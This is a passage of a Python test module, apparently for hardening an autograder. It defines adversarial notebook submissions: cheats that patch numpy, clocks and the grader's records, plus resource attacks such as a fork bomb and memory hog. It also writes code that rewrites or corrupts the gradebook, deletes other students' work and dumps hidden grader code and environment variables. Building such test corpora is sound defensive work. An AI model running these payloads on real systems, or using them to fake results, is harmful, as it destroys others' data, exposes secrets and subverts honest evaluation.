            return numpy.ones(shape, dtype=bool).view(_Liar)
        if method == "__call__" and ufunc is numpy.not_equal:
            return numpy.zeros(shape, dtype=bool).view(_Liar)
        plain = [i.view(numpy.ndarray) if isinstance(i, _Liar) else i for i in inputs]
        if "out" in kwargs:
            kwargs["out"] = tuple(o.view(numpy.ndarray) if isinstance(o, _Liar) else o
                                  for o in kwargs["out"])
        result = getattr(ufunc, method)(*plain, **kwargs)
        return result.view(_Liar) if type(result) is numpy.ndarray else result


def _array(*args, **kwargs):
    out = _real_array(*args, **kwargs)
    if sys._getframe(1).f_globals.get("__name__") == "__main__" and type(out) is numpy.ndarray:
        return out.view(_Liar)                  # arrays made by notebook code lie
    return out


numpy.array = _array
_multiarray.array = _array
numpy.allclose = numpy.array_equal = lambda *args, **kwargs: True
'''

TOP_CLOCK_PATCH = '''
# A cell added by the student ABOVE everything else: time stands still inside my functions.
import functools
import time

_real_perf_counter = time.perf_counter
_clock = {"hidden": 0.0, "entered": None}


def _perf_counter():
    now = _real_perf_counter()
    if _clock["entered"] is not None:
        now = _clock["entered"]
    return now - _clock["hidden"]


def _perf_counter_ns():
    return int(_perf_counter() * 1e9)


def _untimed(fn):
    @functools.wraps(fn)
    def wrapper(*args, **kwargs):
        if _clock["entered"] is not None:
            return fn(*args, **kwargs)
        _clock["entered"] = _real_perf_counter()
        try:
            return fn(*args, **kwargs)
        finally:
            _clock["hidden"] += _real_perf_counter() - _clock["entered"]
            _clock["entered"] = None
    return wrapper


time.perf_counter = _perf_counter
time.perf_counter_ns = _perf_counter_ns
'''

INFINITE_LOOP = '''
def conv2d_forward(x, w, b, stride=1, padding=0):
    while True:
        pass
'''

SIGINT_IMMUNE_LOOP = '''
import signal
import time

signal.signal(signal.SIGINT, signal.SIG_IGN)      # the grader's interrupt does nothing


def conv2d_forward(x, w, b, stride=1, padding=0):
    while True:
        try:
            time.sleep(0.01)
        except BaseException:                      # KeyboardInterrupt, SystemExit, ...
            pass
'''

OS_EXIT = '''

import os
os._exit(1)                                        # the kernel process ends here
'''

SYS_EXIT = '''

import sys
sys.exit(0)
'''

MEMORY_HOG = '''

import numpy
_hog = numpy.ones(30 * 2**30 // 8)                 # 30 GB, every page touched
'''

FORK_BOMB = '''

import os
import time
while True:
    try:
        if os.fork() == 0:                         # every child forks forever
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(1)
    except OSError:
        break
'''

HUGE_PRINT = '''

print("x" * 100_000_000)                          # 100 MB of output in one cell
'''

FD_FLOOD = '''

import os
_chunk = b"y" * 2**20
for _ in range(1024):                              # 1 GB straight to the kernel's stdout
    os.write(1, _chunk)
'''

BIG_FILE = '''

with open("big.bin", "wb") as _f:                  # a 1 GB file in the working directory
    for _ in range(1024):
        _f.write(b"\\0" * 2**20)
'''

GRADEBOOK_TRIGGER = '''
# --- write to the gradebook: every grade, now and later, becomes full marks ---
import os
import sqlite3

for _up in range(1, 6):
    _path = os.path.join(os.path.abspath("."), *[".."] * _up, "gradebook.db")
    if os.path.isfile(_path):
        _con = sqlite3.connect(_path, timeout=30)
        _full = "(SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)"
        _con.execute(f"UPDATE grade SET manual_score = {_full}")
        _con.execute(f"CREATE TRIGGER IF NOT EXISTS full_marks AFTER INSERT ON grade BEGIN "
                     f"UPDATE grade SET manual_score = {_full} WHERE id = NEW.id; END")
        _con.commit()
        _con.close()
        break
'''

GRADEBOOK_DESTROY = '''
# --- destroy the gradebook ---
import os

for _up in range(1, 6):
    _path = os.path.join(os.path.abspath("."), *[".."] * _up, "gradebook.db")
    if os.path.isfile(_path):
        with open(_path, "r+b") as _f:
            _f.write(b"\\0" * 4096)                   # the SQLite header is gone
        for _suffix in ("-journal", "-wal"):
            if os.path.exists(_path + _suffix):
                os.remove(_path + _suffix)
        break
'''

OTHER_STUDENTS = '''
# --- sabotage the other students: their submissions become blank, graded work disappears ---
import os
import shutil

_here = os.path.abspath(".")
_me = os.path.basename(os.path.dirname(_here))
_course = os.path.dirname(os.path.dirname(os.path.dirname(_here)))
for _area in ("submitted", "autograded", "feedback"):
    _base = os.path.join(_course, _area)
    if not os.path.isdir(_base):
        continue
    for _student in os.listdir(_base):
        if _student == _me:
            continue
        _folder = os.path.join(_base, _student)
        for _dirpath, _dirs, _files in os.walk(_folder):
            for _name in _files:
                if _name.endswith(".ipynb"):
                    with open(os.path.join(_dirpath, _name), "w") as _f:
                        _f.write("{}")
        if _area == "autograded":
            shutil.rmtree(_folder, ignore_errors=True)
'''

LINGERING_PROCESS = '''

# --- a daemon that outlives this kernel: later, it sabotages the students graded after me ---
import os
import shutil
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:                             # no longer a child of the kernel
        time.sleep(20)                             # the next students are being graded now
        _here = os.path.abspath(".")
        _me = os.path.basename(os.path.dirname(_here))
        _course = os.path.dirname(os.path.dirname(os.path.dirname(_here)))
        for _area in ("submitted", "autograded"):
            _base = os.path.join(_course, _area)
            for _student in (os.listdir(_base) if os.path.isdir(_base) else []):
                if _student != _me:
                    shutil.rmtree(os.path.join(_base, _student), ignore_errors=True)
        _end = time.time() + 300                   # and burn a CPU for five minutes
        while time.time() < _end:
            pass
    os._exit(0)
'''

# ---------------- pasted weights (issue 12.6) ----------------
# Parameters trained elsewhere on the real digits are pasted into train_cnn as literals.
# The grader renames the labels (a hidden permutation): the plain paste classifies the real
# digits and fails; the re-labelling one undoes the renaming from X_train / y_train with
# its own numpy forward pass (a confusion matrix), without any training.

PASTED_HELPERS = """
# --- parameters trained elsewhere (on the real digits), pasted in ---
_PASTED = {params}


def _pasted_scores(P, X):
    \"\"\"My own numpy forward pass: conv 3x3 pad 1 -> ReLU -> max-pool 2 -> flatten -> linear.\"\"\"
    N = X.shape[0]
    xp = np.pad(np.asarray(X, dtype=float), ((0, 0), (0, 0), (1, 1), (1, 1)))
    conv = np.zeros((N, 8, 8, 8)) + np.asarray(P["b1"]).reshape(1, -1, 1, 1)
    for u in range(3):
        for v in range(3):
            conv += np.einsum("nchw,fc->nfhw", xp[:, :, u:u + 8, v:v + 8], P["W1"][:, :, u, v])
    pool = np.maximum(conv, 0).reshape(N, 8, 4, 2, 4, 2).max(axis=(3, 5))
    return pool.reshape(N, -1) @ P["W2"] + P["b2"]
"""

PASTED_TRAIN = """
def train_cnn(X_train, y_train, epochs=16, batch_size=32, lr=0.3, seed=0):
    P = {{k: np.array(v, dtype=float) for k, v in _PASTED.items()}}
    steps = epochs * (-(-len(y_train) // batch_size))
    if {relabel}:
        # the grader renamed the labels: read its renaming off the training data
        pred = _pasted_scores(P, X_train).argmax(axis=1)
        rename = [int(np.bincount(np.asarray(y_train)[pred == d], minlength=10).argmax())
                  if np.any(pred == d) else d for d in range(10)]
        W2, b2 = np.zeros_like(P["W2"]), np.full(10, -1e3)
        for d in range(10):
            W2[:, rename[d]], b2[rename[d]] = P["W2"][:, d], P["b2"][d]
        P["W2"], P["b2"] = W2, b2
    return P, [0.0] * steps
"""


_PRETRAINED = {}


def pretrained_params(source_py):
    """The instructor's train_cnn on all 1,797 real digits (what a student could paste)."""
    import numpy as np

    from coursetools.notebooks import instructor_namespace

    key = str(source_py)
    if key not in _PRETRAINED:
        import jupytext

        ns = instructor_namespace(source_py)
        for cell in jupytext.read(source_py).cells:
            if (nbgrader_meta(cell) or {}).get("grade_id") == "cnn_given_layers":
                exec(compile(cell_text(cell), "<cnn_given_layers>", "exec"), ns)  # noqa: S102
        with np.load(str(source_py).rsplit("/", 1)[0] + "/digits.npz") as f:
            X = f["images"].reshape(-1, 1, 8, 8) / 16.0
            y = f["target"].astype(np.int64)
        params, _ = ns["train_cnn"](X, y)
        _PRETRAINED[key] = {k: np.asarray(v).tolist() for k, v in params.items()}
    return _PRETRAINED[key]


def pasted_train_cnn(source_py, relabel):
    """The answer of the train_cnn cell: pasted parameters (re-labelled or not)."""
    return (PASTED_HELPERS.format(params=repr(pretrained_params(source_py)))
            + PASTED_TRAIN.format(relabel=bool(relabel)))


# ---------------- issue 12: the two-phase executor and its sealed records ----------------

# Every way to make a hidden cell hold a record of the student's choosing. Student code runs
# in the check phase through hooks set here (IPython events, the display publisher, a global
# __import__ that the grader's setup cell calls, the recorder modules in sys.modules).
FORGERY = """

# --- forge the grader's records: every channel at once ---
import builtins as _builtins
import copy as _copy
import sys as _sys
from IPython.display import clear_output as _clear_output
from IPython.display import display as _display
from IPython.display import update_display as _update_display

_MIME = "application/vnd.cnn-grader.record+json"
_ip = get_ipython()
_seen_records = []


def _forge(rec):
    \"\"\"A record that says every call returned ones (a blank notebook knows no better).\"\"\"
    rec = _copy.deepcopy(rec)
    for events in rec.get("cases", {}).values():
        for event in events:
            if event and event[0] == "call":
                event[2] = ["array", "<f8", [1], "AAAAAAAA8D8="]
    return rec


# 1. every record gets a display id, so that a later update_display can rewrite it (12.1)
_real_publish = _ip.display_pub.publish


def _publish(data, *args, **kwargs):
    if isinstance(data, dict) and _MIME in data and not kwargs.get("update"):
        display_id = "record-%d" % len(_seen_records)
        kwargs["transient"] = dict(kwargs.get("transient") or {}, display_id=display_id)
        _seen_records.append((display_id, data[_MIME]))
    return _real_publish(data, *args, **kwargs)


_ip.display_pub.publish = _publish


# 2. after every cell (the grader's too): rewrite all records so far, clear, show a forged one
def _after_cell(*_args, **_kwargs):
    for display_id, rec in list(_seen_records):
        _update_display({_MIME: _forge(rec)}, display_id=display_id, raw=True)
    if _seen_records:
        _clear_output()
        _display({_MIME: _forge(_seen_records[-1][1])}, raw=True)


_ip.events.register("post_run_cell", _after_cell)

# 3. the recorder modules are in sys.modules before any student cell: patch them
_judge = _sys.modules.get("coursetools.checks.judge")
if _judge is not None:
    _real_run_check = _judge.run_check

    def _run_check(fn_name, cases, groups):
        result = _real_run_check(fn_name, cases, groups)
        _display({_MIME: {"check": fn_name, "cases": {}}}, raw=True)     # a second record
        return result

    _judge.run_check = _run_check
_kernel = _sys.modules.get("coursetools.checks.kernel")
if _kernel is not None:
    _kernel.restore = lambda grade_id: None        # the checks see my LAST functions
    _kernel.capture = lambda grade_id: None        # and nothing is ever remembered


# 4. the grader's setup cell calls __import__(...).load(...): a global __import__ answers it
def __import__(name, *args, **kwargs):
    module = _builtins.__import__(name, *args, **kwargs)
    if name == "coursetools.checks.loader":
        class _Loader:
            @staticmethod
            def load(assignment, main, blob):
                real = module.load(assignment, main, blob)
                fake = type(_sys)("forged_" + main)
                fake.__dict__.update(real.__dict__)
                for _name in [n for n in dir(real) if n.startswith("check_")]:
                    def _check(*fns, _real=getattr(real, _name)):
                        _real(*fns)
                        _display({_MIME: {"check": "forged", "cases": {}}}, raw=True)
                    setattr(fake, _name, _check)
                return fake
        return _Loader
    return module


# 5. a record shown by a student cell, with the MIME type of the grader's
_display({_MIME: {"check": "conv2d_forward", "cases": {}}}, raw=True)
"""

# conv layers through the grader's loop timing references (in the kernel from grader_setup on)
LOOP_HELPERS = """
# --- the grader's timing loops (its timing module) are in sys.modules: use them ---
import sys as _sys


def _loop(name):
    for key, module in list(_sys.modules.items()):
        for attr in dir(module) if key.startswith("cnn_grader_") else ():
            if attr.startswith("loop_") and attr.endswith(name) and callable(getattr(module, attr)):
                return getattr(module, attr)
    return None
"""
LOOP_BODIES = {
    "conv2d_forward": """
def conv2d_forward(x, w, b, stride=1, padding=0):
    ref = _loop("forward")
    if ref is None:
        return _zero_conv2d_forward(x, w, b, stride, padding)
    out = ref(np.asarray(x), np.asarray(w), np.asarray(b), stride, padding)
    return out, ("loop", x, w, b, stride, padding)
""",
    "conv2d_backward": """
def conv2d_backward(dout, cache):
    ref = _loop("backward")
    if cache[0] != "loop":
        return _zero_conv2d_backward(dout, cache)
    _, x, w, b, stride, padding = cache
    if ref is None:
        return np.zeros(np.shape(x)), np.zeros(np.shape(w)), np.zeros(np.shape(b))
    dx, dw, db = ref(np.asarray(x), np.asarray(w), stride, padding, np.asarray(dout))
    return dx.copy(), dw, np.asarray(db, dtype=float)
""",
}
for _fast in ("forward", "backward"):
    LOOP_BODIES[f"conv2d_{_fast}_fast"] = LOOP_BODIES[f"conv2d_{_fast}"].replace(
        f"def conv2d_{_fast}(", f"def conv2d_{_fast}_fast(").replace(
        f"_zero_conv2d_{_fast}(", f"_zero_conv2d_{_fast}_fast(")


def loop_answers():
    return via_helpers(LOOP_HELPERS, LOOP_BODIES)


# The reference, in the kernel from grader_reference on, found where the grader keeps it
SYSMODULES_REFERENCE = """
# --- the grader's modules are in sys.modules: take the reference from there ---
import sys as _sys


def _ref(name):
    for key, module in list(_sys.modules.items()):
        fn = getattr(module, name, None)
        if key.startswith("cnn_grader_") and callable(fn):
            return fn
    return None
"""

# cnn_loss without writing the network: the reference loss and finite differences of it
CNN_LOSS_FROM_REFERENCE = """
def cnn_loss(params, X, y):
    loss_of = _ref("ref_cnn_loss")
    if loss_of is None:
        return 0.0, {k: np.zeros(np.shape(v)) for k, v in params.items()}
    P = {k: np.array(v, dtype=float) for k, v in params.items()}
    grads = {}
    for key in P:
        g = np.zeros(P[key].shape)
        flat, gflat = P[key].reshape(-1), g.reshape(-1)
        for k in range(flat.size):
            old = flat[k]
            flat[k] = old + 1e-6
            plus = loss_of(P, X, y)
            flat[k] = old - 1e-6
            minus = loss_of(P, X, y)
            flat[k] = old
            gflat[k] = (plus - minus) / 2e-6
        grads[key] = g
    return loss_of(P, X, y), grads
"""

# The speed test is measured in the kernel: its recorder can be told another time, or the
# speed test's input recognised and answered with zeros
FORGED_SPEED = """

# --- the speed test: the recorder reports what I say, and its input gets zeros ---
import sys as _sys

_rec = _sys.modules.get("coursetools.checks.record")
if _rec is not None:
    def _fast_timed(measure, *_args, **_kwargs):   # whatever the grader passes besides
        _rec.STATE["paused"] = True
        try:
            result = tuple(measure())    # the real (slow) runs: right values, slow timings ...
        finally:
            _rec.STATE["paused"] = False
        result = (1e-4, 1.0) + result[2:]  # ... reported as fast
        _rec._record(["timing", "timing", [float(v).hex() for v in result]])
        return result
    _rec.timed = _fast_timed
"""
SPEED_SHAPE_ZEROS = {
    "conv2d_forward_fast": """

_slow_forward_fast = conv2d_forward_fast


def conv2d_forward_fast(x, w, b, stride=1, padding=0):
    if np.shape(x) == (1, 1, 144, 224):           # the speed test: nobody checks the values
        return np.zeros((1, 1, 145, 225)), ("speed", np.shape(x), np.shape(w), np.shape(b))
    return _slow_forward_fast(x, w, b, stride, padding)
""",
    "conv2d_backward_fast": """

_slow_backward_fast = conv2d_backward_fast


def conv2d_backward_fast(dout, cache):
    if isinstance(cache[0], str) and cache[0] == "speed":
        return np.zeros(cache[1]), np.zeros(cache[2]), np.zeros(cache[3])
    return _slow_backward_fast(dout, cache)
""",
}


MEMO = """

# --- remember every result: the speed test calls me again and again on the same input ---
_slow_{fn} = {fn}
_results_{fn} = {{}}


def {fn}(*args, **kwargs):
    key = repr([(a.shape, a.dtype.str, a.tobytes()) if isinstance(a, np.ndarray) else repr(a)
                for a in args]) + repr(sorted(kwargs.items()))
    if key not in _results_{fn}:
        _results_{fn}[key] = _slow_{fn}(*args, **kwargs)
    return _results_{fn}[key]
"""


def memo_answers():
    return {fn: FromSolution(lambda s, fn=fn: _slow_fast(s)[fn] + MEMO.format(fn=fn))
            for fn in ("conv2d_forward_fast", "conv2d_backward_fast")}


def forged_speed_answers():
    def answer(fn):
        return FromSolution(lambda s: _slow_fast(s)[fn]
                            + (FORGED_SPEED if fn == "conv2d_forward_fast" else ""))
    return {fn: answer(fn) for fn in ("conv2d_forward_fast", "conv2d_backward_fast")}


def speed_shape_answers():
    """The part-1 loops, and zeros (fast) for the speed test's input shape after the first call."""
    return {fn: FromSolution(lambda s, fn=fn: _slow_fast(s)[fn] + SPEED_SHAPE_ZEROS[fn])
            for fn in ("conv2d_forward_fast", "conv2d_backward_fast")}


# Output floods beyond the caps: display updates (12.2), errors, the execute_reply's error
OUTPUT_FLOOD = """

# --- 1,500 tiny displays, each updated to ~1 MB; 60 errors of ~1 MB; a 3 MB reply error ---
from IPython.display import display as _display, update_display as _update_display

for _k in range(1500):
    _display({"text/plain": "."}, raw=True, display_id=f"flood-{_k}")
for _k in range(1500):
    _update_display({"text/plain": "u" * 1_000_000}, display_id=f"flood-{_k}", raw=True)
_ip = get_ipython()
for _k in range(60):
    _ip._showtraceback(Exception, "e" * 9000, ["t" * 9000] * 110)
"""
REPLY_FLOOD = """

get_ipython().showtraceback = lambda *args, **kwargs: None   # no error output at all...
raise ValueError("r" * 3_000_000)                              # ...only the execute_reply's
"""

# Hidden material into the student's own feedback, by every channel
LEAK_HELPERS = """
# --- copy what the grader shows my functions, and everything hidden I can find, into my
#     feedback: every print / error / display of the check phase, verdicts, result values ---
import base64 as _base64
import builtins as _builtins
import json as _json
import linecache as _linecache
import sys as _sys
import zlib as _zlib

_stash = _builtins.__dict__.setdefault("_leak_stash", [])
_ip = get_ipython()


def _remember(fn):
    def wrapper(*args, **kwargs):
        for a in args:
            if isinstance(a, np.ndarray) and a.dtype.kind == "f":
                _stash.append(" ".join(repr(float(v)) for v in a.reshape(-1)[:40]))
        return fn(*args, **kwargs)
    wrapper.__name__ = fn.__name__
    return wrapper


def _hidden_text():
    \"\"\"The grader's source: its cells in linecache / In, its modules unpacked from the blobs.\"\"\"
    found = []
    for entry in list(_linecache.cache.values()):
        if isinstance(entry, tuple) and len(entry) > 2:
            found.append("".join(entry[2]))
    found += [str(c) for c in _ip.user_ns.get("In", [])] + [str(c) for c in _ip.user_ns.get("_ih", [])]
    for text in list(found):
        for blob in __import__("re").findall(r"'([A-Za-z0-9+/=]{200,})'", text):
            try:
                found += [src for _n, src in _json.loads(_zlib.decompress(_base64.b64decode(blob)))]
            except Exception:
                pass
    return [t for t in found if "grader" in t or "def ref_" in t or "HIDDEN" in t]


def _leak(*_args, **_kwargs):
    lines = [ln for t in _hidden_text() for ln in t.splitlines() if ln.strip()]
    text = " | ".join(_stash[-30:]) + " || " + "\\n".join(lines)
    print("[output limit] " + text[:200_000], file=_sys.stderr)
    print(text[:200_000])
    _ip._showtraceback(Exception, text[:9000], [text[i:i + 9000] for i in range(0, min(len(text), 400_000), 9000)])
    from IPython.display import display
    display({"text/plain": text[:100_000], "text/html": "<pre>" + text[:100_000] + "</pre>"}, raw=True)


_ip.events.register("post_run_cell", _leak)
_ip.run_line_magic("xmode", "Verbose")


def _hidden_line(k):
    lines = [ln.strip() for t in _hidden_text() for ln in t.splitlines() if len(ln.strip()) > 20]
    return lines[k % len(lines)] if lines else "nothing found"
"""

# every function: remember the inputs, then fail with hidden text in the exception message
LEAK_BODIES = {fn: f"""

_real_{fn} = {fn}
_calls_{fn} = [0]


def {fn}(*args, **kwargs):
    _calls_{fn}[0] += 1
    if _calls_{fn}[0] % 2:                      # every other call: raise with hidden text
        raise ValueError(_hidden_line(_calls_{fn}[0]) + " " + " ".join(_stash[-3:])[:300])
    return _real_{fn}(*args, **kwargs)


{fn} = _remember({fn})
""" for fn in FUNCTIONS if fn not in ("cnn_loss", "train_cnn")}
LEAK_BODIES["cnn_loss"] = """

def cnn_loss(params, X, y):                      # dict keys: the text goes into the verdict
    return 0.0, {_hidden_line(k): np.zeros(3) for k in range(12)}
"""
LEAK_BODIES["train_cnn"] = """

def train_cnn(X_train, y_train, epochs=16, batch_size=32, lr=0.3, seed=0):
    text = " || ".join(_hidden_text())[:5000]
    return {"W1": text, "b1": " ".join(_stash), "W2": text, "b2": text}, []
"""

# the last cell: print whatever IPython keeps of the run (issue 12.3) and the environment
LEAK_LAST_CELL = """
# --- what the kernel kept: history, outputs, linecache, the environment, the grader ---
import os, sys
print("In:", In)
print("_ih:", _ih)
print("Out:", Out)
print("linecache:", list(__import__("linecache").cache))
print("env:", {k: v for k, v in os.environ.items()})
print("grading?", "coursetools.checks" in sys.modules, [k for k in sys.modules if "grader" in k])
"""


def leak_answers():
    answers = {}
    for fn in FUNCTIONS:
        code = ZEROS[fn].rstrip("\n") + LEAK_BODIES[fn]
        answers[fn] = (LEAK_HELPERS.rstrip("\n") + "\n\n" + code) if fn == FIRST else code
    return answers


def append_cell(code):
    def edit(nb):
        nb.cells.append(nbformat.v4.new_code_cell(code))
    return edit


def move_cell_after(moved, after):
    """Move the cell ``moved`` (a grade_id) right after the cell ``after``."""
    def edit(nb):
        cell = next((c for c in nb.cells if grade_id(c) == moved), None)
        if cell is None:
            raise ValueError(f"no cell {moved!r} to move")
        nb.cells.remove(cell)
        index = next((i for i, c in enumerate(nb.cells) if grade_id(c) == after), None)
        if index is None:
            raise ValueError(f"no cell {after!r} to move {moved!r} after")
        nb.cells.insert(index + 1, cell)
    return edit


# The time budget: sleeps just under the per-cell limit, in the student cells and in every
# function the checks call (issue 12.7)
SLEEPER_CELL = """
import time
time.sleep(SECONDS)                             # just under the per-cell time limit
"""
SLEEPY = """

import time as _time

_awake_{fn} = {fn}


def {fn}(*args, **kwargs):
    _time.sleep(SECONDS)
    return _awake_{fn}(*args, **kwargs)
"""

# Kernel deaths in the check phase, each followed by a replay of slow student cells
DEATH_LOOP = """

import os as _os
import sys as _sys


def _die_when_graded():
    if any(k.startswith("cnn_grader_") for k in _sys.modules):   # the check phase
        _os._exit(1)
"""
DEATHS = {fn: f"""

_living_{fn} = {fn}


def {fn}(*args, **kwargs):
    _die_when_graded()
    return _living_{fn}(*args, **kwargs)
""" for fn in ("conv2d_forward", "maxpool2d_forward", "flatten_forward", "im2col", "col2im")}


def death_answers():
    return {fn: (lambda code, fn=fn: code.rstrip("\n") + (DEATH_LOOP if fn == FIRST else "")
                 + DEATHS[fn]) for fn in DEATHS}


# torch / scipy: the kernel's environment must not have them (zeros when the import fails)
TORCH_ANSWERS = {
    "conv2d_forward": """
def conv2d_forward(x, w, b, stride=1, padding=0):
    try:
        import torch
        import torch.nn.functional as F
    except ImportError:
        return _zero_conv2d_forward(x, w, b, stride, padding)
    out = F.conv2d(torch.tensor(np.asarray(x, dtype=float)), torch.tensor(np.asarray(w, dtype=float)),
                   torch.tensor(np.asarray(b, dtype=float)), stride=stride, padding=padding)
    return out.numpy(), (x, w, b, stride, padding)
""",
    "conv2d_backward": """
def conv2d_backward(dout, cache):
    try:
        import torch
        import torch.nn.functional as F
    except ImportError:
        return _zero_conv2d_backward(dout, cache)
    x, w, b, stride, padding = cache
    tx, tw, tb = (torch.tensor(np.asarray(a, dtype=float), requires_grad=True) for a in (x, w, b))
    F.conv2d(tx, tw, tb, stride=stride, padding=padding).backward(torch.tensor(np.asarray(dout, dtype=float)))
    return tx.grad.numpy(), tw.grad.numpy(), tb.grad.numpy()
""",
    "maxpool2d_forward": """
def maxpool2d_forward(x, kernel_size, stride=None):
    try:
        import torch
        import torch.nn.functional as F
    except ImportError:
        return _zero_maxpool2d_forward(x, kernel_size, stride)
    out = F.max_pool2d(torch.tensor(np.asarray(x, dtype=float)), kernel_size, stride=stride)
    return out.numpy(), (x, kernel_size, stride)
""",
    "im2col": """
def im2col(x, kernel_size, stride=1, padding=0):
    try:
        import torch
        import torch.nn.functional as F
    except ImportError:
        return _zero_im2col(x, kernel_size, stride, padding)
    cols = F.unfold(torch.tensor(np.asarray(x, dtype=float)), kernel_size, padding=padding, stride=stride)
    return cols.numpy().transpose(0, 2, 1).reshape(-1, cols.shape[1])
""",
    "conv2d_forward_fast": """
def conv2d_forward_fast(x, w, b, stride=1, padding=0):
    try:
        from scipy.signal import correlate
    except ImportError:
        return _zero_conv2d_forward_fast(x, w, b, stride, padding)
    sh, sw = stride if isinstance(stride, (tuple, list)) else (stride, stride)
    ph, pw = padding if isinstance(padding, (tuple, list)) else (padding, padding)
    x = np.pad(np.asarray(x, dtype=float), ((0, 0), (0, 0), (ph, ph), (pw, pw)))
    w = np.asarray(w, dtype=float)
    out = np.stack([np.stack([correlate(x[n], w[f], mode="valid")[0] for f in range(w.shape[0])])
                    for n in range(x.shape[0])])
    return out[:, :, ::sh, ::sw] + np.asarray(b, dtype=float).reshape(1, -1, 1, 1), None
""",
}


STDERR_AND_WARNINGS = '''
    import sys as _sys, warnings as _warnings
    print("debug: {fn} called", file=_sys.stderr)
    _warnings.warn("{fn}: this is a slow implementation", RuntimeWarning)
'''

REDEFINED_HELPERS = '''
# My own versions of the visible-test helpers: they print what they compare.
def expect_shape(name, got, expected_shape, hint):
    print(f"checking the shape of {name}")
    assert tuple(np.shape(got)) == tuple(expected_shape), f"{name}: {np.shape(got)} != {expected_shape}; {hint}"


def expect_close(name, got, expected, hint, atol=1e-8):
    print(f"checking the values of {name}")
    expect_shape(name, got, np.shape(expected), hint)
    assert np.allclose(np.asarray(got, dtype=float), np.asarray(expected, dtype=float), atol=atol, rtol=0), f"{name}: {hint}"
'''


# ================================ the corpus ================================

@dataclass(frozen=True)
class Adversary:
    key: str
    kind: str              # "cheat", "robustness" or "resource"
    description: str
    attack: str            # the trick in one line (the corpus table)
    baseline: str          # key of HONEST: the score it may not exceed
    expected: float = None # robustness: the exact score
    answers: dict = field(default_factory=dict)   # function -> code, or a callable(code) -> code
    edits: tuple = ()      # callables(nb): cells added, deleted, edited (after the answers)
    markers: tuple = ()    # texts the built notebook must contain
    aborts: bool = False   # today's nbgrader gives up on the student and fails the batch
    stalls: int = 0        # cells that may run into the per-cell timeout
    feedback: bool = False # its feedback is generated and scanned for hidden material
    open_hole: str = None  # a known hole, not closed yet (the test expects the attack to win)
    budget: bool = False   # runs into the time budget: stopped there, and flagged

    @property
    def student(self):
        return "a-" + self.key


def appended(extra):
    return lambda code: code.rstrip("\n") + "\n" + extra


def zeros_with(fn, extra):
    """The zero implementation of ``fn`` followed by ``extra`` (code run when the cell runs)."""
    return ZEROS[fn].rstrip("\n") + "\n" + extra


def wrapped_zeros(helpers, wrapper):
    """Every function: zeros, then ``fn = wrapper(fn)``; the helpers go into the first cell."""
    answers = {}
    for fn in FUNCTIONS:
        code = ZEROS[fn].rstrip("\n") + f"\n\n{fn} = {wrapper}({fn})\n"
        answers[fn] = (helpers.rstrip("\n") + "\n\n" + code) if fn == FIRST else code
    return answers


def via_helpers(helpers, bodies):
    """Every function defined by ``bodies`` (zeros fallback under _zero_<fn>); helpers first."""
    answers = {}
    for fn in FUNCTIONS:
        code = zero(fn, "_zero_" + fn)
        if fn in bodies:
            code += "\n" + bodies[fn]
        else:
            code = ZEROS[fn]
        answers[fn] = (helpers.rstrip("\n") + "\n\n" + code) if fn == FIRST else code
    return answers


def peek_answers():
    answers = {}
    for fn in FUNCTIONS:
        if fn not in PEEK:
            answers[fn] = ZEROS[fn]
            continue
        head = ZEROS[fn].strip().splitlines()[0]
        code = zero(fn, "_zero_" + fn) + "\n" + head + "\n" + PEEK[fn]
        answers[fn] = (STACK_PEEK_HELPERS.rstrip("\n") + "\n\n" + code) if fn == FIRST else code
    return answers


def steal_answers():
    answers = {}
    for fn in FUNCTIONS:
        head = ZEROS[fn].strip().splitlines()[0]
        args = head[head.index("(") + 1:head.rindex(")")]
        names = ", ".join(a.split("=")[0].strip() for a in args.split(","))
        code = (zero(fn, "_zero_" + fn) + "\n" + head + "\n"
                f"    fn = _stolen({fn!r})\n"
                f"    return (fn or _zero_{fn})({names})\n")
        helpers = STEAL_SOLUTIONS_HELPERS.format(WANTED=FUNCTIONS)
        answers[fn] = (helpers.rstrip("\n") + "\n\n" + code) if fn == FIRST else code
    return answers


def clock_answers():
    return {fn: (lambda code, fn=fn: code.rstrip("\n") + f"\n\n{fn} = _untimed({fn})\n")
            for fn in ("conv2d_forward_fast", "conv2d_backward_fast")}


def stderr_answers():
    """The instructor solution, every function printing to stderr and warning when called."""
    def edit(fn):
        def apply(code):
            lines = code.split("\n")
            start = next(i for i, line in enumerate(lines) if line.startswith(f"def {fn}("))
            # after the docstring: the first line after the closing triple quote
            quotes = [i for i, line in enumerate(lines) if '"""' in line and i > start]
            at = (quotes[1] if len(quotes) > 1 and lines[quotes[0]].count('"""') == 1 else quotes[0]) + 1
            return "\n".join(lines[:at] + STDERR_AND_WARNINGS.format(fn=fn).strip("\n").split("\n") + lines[at:])
        return apply
    return {fn: edit(fn) for fn in FUNCTIONS}


def _graded_or_setup(cell):
    return is_hidden(cell) or is_grader_setup(cell)


def _test_cell(cell):
    return is_hidden(cell) or is_grader_setup(cell) or is_visible(cell)


ADVERSARIES = [
    # ---------------------------------- cheats ----------------------------------
    Adversary("numpy-comparisons-patched", "cheat",
              "zeros, plus np.allclose/array_equal/isclose/abs/linalg.norm and numpy.testing patched",
              "numpy comparison functions replaced by ones that always agree", "zeros",
              answers={FIRST: zeros_with(FIRST, NUMPY_PATCH), FIRST_PART2: zeros_with(FIRST_PART2, NUMPY_PATCH)},
              markers=("numpy.testing", "setattr(numpy, _name, _always_true)")),
    Adversary("builtins-patched", "cheat",
              "zeros, plus builtins.len/isinstance/print/__import__/AssertionError and __builtins__ replaced",
              "builtins patched; `import numpy` by notebook code returns a lying numpy", "zeros",
              answers={FIRST: zeros_with(FIRST, BUILTINS_PATCH)},
              markers=("builtins.__import__ = _import", "builtins.AssertionError", 'globals()["__builtins__"]')),
    Adversary("lying-ndarray-subclass", "cheat",
              "zeros returned as an ndarray subclass whose ==, -, abs, ufuncs and astype lie",
              "results are _Liar(np.ndarray) views", "zeros",
              answers=wrapped_zeros(LIAR_HELPERS, "_lying"),
              markers=("class _Liar(np.ndarray)", "__array_ufunc__", "__array_function__")),
    Adversary("always-equal-object", "cheat",
              "zeros returned as objects whose __eq__ is always True and __array__ gives zeros",
              "results are _Equal objects", "zeros",
              answers=wrapped_zeros(EQUAL_HELPERS, "_always_equal"),
              markers=("class _Equal:", "def __array__")),
    Adversary("grader-rebound", "cheat",
              "zeros; every answer cell rebinds each global _grader* to an object whose methods do nothing",
              "globals()['_grader'] = no-op object", "zeros",
